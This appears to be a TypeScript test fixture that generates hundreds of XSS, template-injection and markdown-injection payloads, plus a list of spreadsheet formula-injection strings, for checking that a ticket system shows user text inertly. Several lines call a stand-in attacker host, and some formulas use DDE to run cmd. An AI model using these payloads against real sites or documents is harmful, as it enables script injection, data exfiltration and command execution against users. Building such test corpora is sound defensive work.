// SPDX-License-Identifier: Apache-2.0
// Texts that try to become markup, script, style or a request. Each tells that it ran by __ran(n) or fetches /__fetched/n.

type Make = (n: number) => string;

const handlers = [
  "onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin",
  "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange", "onwheel", "onauxclick", "onsecuritypolicyviolation",
];
const elements: ((handler: string, js: string) => string)[] = [
  (h, js) => `<img src=x ${h}=${js}>`,
  (h, js) => `<svg ${h}=${js}>`,
  (h, js) => `<svg><animate ${h}=${js} attributeName=x dur=1s>`,
  (h, js) => `<input autofocus ${h}=${js}>`,
  (h, js) => `<details open ${h}=${js}><summary>x</summary></details>`,
  (h, js) => `<video src=x ${h}=${js}></video>`,
  (h, js) => `<audio src=x ${h}=${js}></audio>`,
  (h, js) => `<body ${h}=${js}>`,
  (h, js) => `<iframe src=about:blank ${h}=${js}></iframe>`,
  (h, js) => `<marquee ${h}=${js}>x</marquee>`,
  (h, js) => `<x contenteditable autofocus tabindex=1 ${h}=${js}>x</x>`,
  (h, js) => `<object data=x ${h}=${js}></object>`,
];
const direct: Make[] = [
  (n) => `<script>__ran(${n})</script>`,
  (n) => `<ScRiPt>__ran(${n})</sCrIpT>`,
  (n) => `<script src=/__fetched/${n}></script>`,
  (n) => `<script src="https://attacker.invalid/${n}"></script>`,
  (n) => `</script><script>__ran(${n})</script>`,
  (n) => `</textarea><script>__ran(${n})</script>`,
  (n) => `</title><script>__ran(${n})</script>`,
  (n) => `</style><script>__ran(${n})</script>`,
  (n) => `<!--><script>__ran(${n})</script>-->`,
  (n) => `<![CDATA[><script>__ran(${n})</script>]]>`,
  (n) => `"><script>__ran(${n})</script>`,
  (n) => `'><script>__ran(${n})</script>`,
  (n) => `"autofocus onfocus=__ran(${n}) x="`,
  (n) => `' autofocus onfocus='__ran(${n})`,
  (n) => "` onmouseover=`__ran(" + n + ")",
  (n) => `<a href="javascript:__ran(${n})">x</a>`,
  (n) => `<a href="jav\tascript:__ran(${n})">x</a>`,
  (n) => `<a href="&#106;avascript:__ran(${n})">x</a>`,
  (n) => `<a href=data:text/html,<script>__ran(${n})</script>>x</a>`,
  (n) => `<form action=javascript:__ran(${n})><button>x</button></form>`,
  (n) => `<form action=https://attacker.invalid/${n}><input autofocus name=a></form>`,
  (n) => `<button formaction=javascript:__ran(${n})>x</button>`,
  (n) => `<iframe src=javascript:__ran(${n})></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.__ran(${n})</script>"></iframe>`,
  (n) => `<iframe src=/__fetched/${n}></iframe>`,
  (n) => `<object data=javascript:__ran(${n})></object>`,
  (n) => `<embed src=/__fetched/${n}>`,
  (n) => `<link rel=stylesheet href=/__fetched/${n}>`,
  (n) => `<link rel=prefetch href=https://attacker.invalid/${n}>`,
  (n) => `<style>@import '/__fetched/${n}';</style>`,
  (n) => `<style>*{background:url(/__fetched/${n})}</style>`,
  (n) => `<div style="background:url(/__fetched/${n})">x</div>`,
  (n) => `<div style="background:url(https://attacker.invalid/${n})">x</div>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:__ran(${n})">`,
  (n) => `<meta http-equiv=refresh content="0;url=https://attacker.invalid/${n}">`,
  (n) => `<base href=https://attacker.invalid/${n}/>`,
  (n) => `<img src=/__fetched/${n}>`,
  (n) => `<img srcset="/__fetched/${n} 2x">`,
  (n) => `<picture><source srcset=/__fetched/${n}><img></picture>`,
  (n) => `<video poster=/__fetched/${n}></video>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='/__fetched/${n}'/></svg>#x"/></svg>`,
  (n) => `<svg><script>__ran(${n})</script></svg>`,
  (n) => `<svg><script href=/__fetched/${n} /></svg>`,
  (n) => `<svg><foreignObject><script>__ran(${n})</script></foreignObject></svg>`,
  (n) => `<math><mtext></form><form><mglyph><style></math><img src onerror=__ran(${n})>`,
  (n) => `<math><annotation-xml encoding=text/html><script>__ran(${n})</script></annotation-xml></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__ran(${n})>">`,
  (n) => `<template><script>__ran(${n})</script></template>`,
  (n) => `<xss style="animation-name:x" onanimationend=__ran(${n})>x</xss>`,
  (n) => `{{constructor.constructor('__ran(${n})')()}}`,
  (n) => `{{ $root.constructor.constructor('__ran(${n})')() }}`,
  (n) => "${__ran(" + n + ")}",
  (n) => `<%= __ran(${n}) %>`,
  (n) => `#{__ran(${n})}`,
  (n) => `[x](javascript:__ran(${n}))`,
  (n) => `[x](https://attacker.invalid/${n} "x" onmouseover=__ran(${n}))`,
  (n) => `![x](/__fetched/${n})`,
  (n) => `![x](https://attacker.invalid/${n})`,
  (n) => `<javascript:__ran(${n})>`,
  (n) => `[x]: javascript:__ran(${n})\n\n[x]`,
  (n) => "```html\n<img src=x onerror=__ran(" + n + ")>\n```",
  (n) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__ran(${n})//'>`,
  (n) => `';__ran(${n});//`,
  (n) => `";__ran(${n});//`,
  (n) => `\\";__ran(${n});//`,
  (n) => `</span><img src=x onerror=__ran(${n})>`,
  (n) => `&lt;img src=x onerror=__ran(${n})&gt;`,
  (n) => `&#60;img src=x onerror=__ran(${n})&#62;`,
  (n) => `%3Cimg src=x onerror=__ran(${n})%3E`,
  (n) => `\\u003cimg src=x onerror=__ran(${n})\\u003e`,
  (n) => `＜img src=x onerror=__ran(${n})＞`,
  (n) => `<\u200bimg src=x onerror=__ran(${n})>`,
  (n) => `\u202e>)${n}(nar__=rorreno x=crs gmi<`,
  (n) => `<a href="//attacker.invalid/${n}" target=_blank ping=/__fetched/${n}>x</a>`,
  (n) => `<input type=image src=/__fetched/${n} name=x>`,
  (n) => `<isindex type=image src=x onerror=__ran(${n})>`,
  (n) => `<portal src=/__fetched/${n}>`,
  (n) => `<fencedframe src=/__fetched/${n}>`,
  (n) => `<dialog open><img src=x onerror=__ran(${n})></dialog>`,
  (n) => `<img name=body><img name=cookie><form id=__vue_app__><input name=nodeName></form><!--${n}-->`,
  (n) => `<div id=app v-html="'<img src=x onerror=__ran(${n})>'"></div>`,
  (n) => `<component :is="'script'">__ran(${n})</component>`,
  (n) => `<div @mouseover=__ran(${n}) v-on:click=__ran(${n})>x</div>`,
];
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => text.replace(/ /g, "/"),
  (text) => text.toUpperCase().replace(/__RAN/g, "__ran").replace(/__FETCHED/g, "__fetched"),
  (text) => `</p>${text}`,
  (text) => text.replace(/</, "<<"),
  (text) => `--!>${text}`,
];

function all(): string[] {
  const found = new Set<string>();
  const add = (make: Make) => found.add(make(found.size));
  for (const make of direct) add(make);
  for (const disguise of disguises) {
    for (const [e, element] of elements.entries()) {
      // Every element with some handlers, every handler with some elements.
      for (const [h, handler] of handlers.entries()) {
        if ((e + h) % 2 === 0) add((n) => disguise(element(handler, `__ran(${n})`)));
      }
    }
  }
  return [...found];
}

/** At least 500; short enough for a ticket's subject. */
export const payloads = all().filter((text) => text.length <= 180);

/** Formulas that a spreadsheet must show as text. */
export const formulas = [
  "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"https://attacker.invalid/\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
  "=IMPORTXML(CONCAT(\"https://attacker.invalid/\",A1),\"//a\")", "＝1+1", "\"=1+1", ";=1+1", "=WEBSERVICE(\"https://attacker.invalid/\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
];
